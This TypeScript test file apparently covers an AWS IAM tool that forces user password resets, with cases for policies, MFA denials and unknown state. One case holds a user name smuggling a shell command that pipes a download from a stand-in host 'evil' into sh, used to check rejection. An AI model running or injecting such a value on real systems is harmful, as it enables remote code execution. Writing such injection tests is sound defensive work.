import { document, held, is, madeAccount, madeUser, none } from '../../../account/cases.ts';
import type { User } from '../../../account/entities.ts';
import { someMembers } from '../../../account/members.ts';
import { unknown } from '../../../account/part.ts';
import type { PasswordPolicy } from '../../../account/password-policy.ts';
import type { ActionCase } from '../../cases.ts';

const policy: PasswordPolicy = {
  minimumPasswordLength: 14,
  requireSymbols: true,
  requireNumbers: true,
  requireUppercaseCharacters: true,
  requireLowercaseCharacters: true,
  allowUsersToChangePassword: true,
  maxPasswordAge: 0,
  passwordReusePrevention: 24,
  hardExpiry: false,
};
const login = (required: boolean) => is({ created: is('2025-06-01T00:00:00Z'), passwordResetRequired: is(required) });
/** When the password was changed is in the credential report alone, and no event tells it. */
const undated = unknown('the credential report was not read');
const alice = (over: Partial<User> = {}) =>
  madeUser('alice', { login: login(false), passwordLastChanged: undated, passwordLastUsed: is('2026-02-20T09:00:00Z'), ...over });
const account = (user: User, passwordPolicy: PasswordPolicy = policy) =>
  madeAccount({ users: [user], over: { passwordPolicy: is(passwordPolicy) } });
const own = { Effect: 'Allow', Action: 'iam:ChangePassword', Resource: 'arn:aws:iam::*:user/${aws:username}' };
const inline = (...statements: object[]) => ({ inline: held({ self: is(document(statements)) }) });
const noPolicy = (user: User) => madeAccount({ users: [user], over: { passwordPolicy: none } });

const withoutMfa = {
  Effect: 'Deny',
  NotAction: ['iam:EnableMFADevice'],
  Resource: '*',
  Condition: { BoolIfExists: { 'aws:MultiFactorAuthPresent': 'false' } },
};
const target = 'user:alice';
const forced = { target, expect: 'steps', steps: ['iam:UpdateLoginProfile'], risk: 'R2' } as const;

export const cases: readonly ActionCase[] = [
  {
    ...forced,
    name: 'the demand alone, no password set, and taken away again',
    state: account(alice()),
    target: 'user:ALICE',
    says: ['last signed in with its password 10 days ago', '"PasswordResetRequired":false'],
    parametersOf: [{ UserName: 'alice', PasswordResetRequired: true }],
  },
  { ...forced, name: 'a user that its own policy allows to change the password', state: noPolicy(alice(inline(own))) },
  {
    ...forced,
    name: 'a user of whom not every policy is known',
    state: account(alice({ attached: someMembers({}, 'not read') })),
    says: ['may change its own password is not certain'],
  },
  {
    name: 'an account that lets nobody change passwords',
    state: noPolicy(alice()),
    target,
    expect: 'refused',
    says: ['no policy allows it', 'set-password-policy'],
  },
  {
    name: 'a user that is denied everything without MFA would never get in again',
    state: account(alice(inline(withoutMfa))),
    target,
    expect: 'refused',
    says: ['inline policy self of user alice denies it without MFA'],
  },
  {
    name: 'a user that is denied it',
    state: account(alice(inline({ Effect: 'Deny', Action: 'iam:Change*', Resource: '*' }))),
    target,
    expect: 'refused',
    says: ['denies it'],
  },
  { name: 'one that must do so already', state: account(alice({ login: login(true) })), target, expect: 'nothing' },
  { name: 'a user without a password', state: account(madeUser('alice')), target, expect: 'nothing' },
  {
    name: 'a login that is not known',
    state: account(alice({ login: unknown('access denied', 'iam:GetLoginProfile') })),
    target,
    expect: 'refused',
    says: ['iam:GetLoginProfile'],
  },
  {
    name: 'a demand that is not known could not be taken back as it was',
    state: account(alice({ login: is({ created: is('2025-06-01T00:00:00Z'), passwordResetRequired: unknown('not read') }) })),
    target,
    expect: 'refused',
    says: ['must choose a new password already is not known'],
  },
  { name: 'no such user', state: account(alice()), target: 'user:mallory', expect: 'refused', says: ['There is no user mallory'] },
  {
    name: 'a name that IAM never gave',
    state: account({ ...alice(), name: "alice'; curl evil | sh; '" }),
    target: "user:alice'; curl evil | sh; '",
    expect: 'refused',
    says: ['is no name that IAM gives to a user'],
  },
];
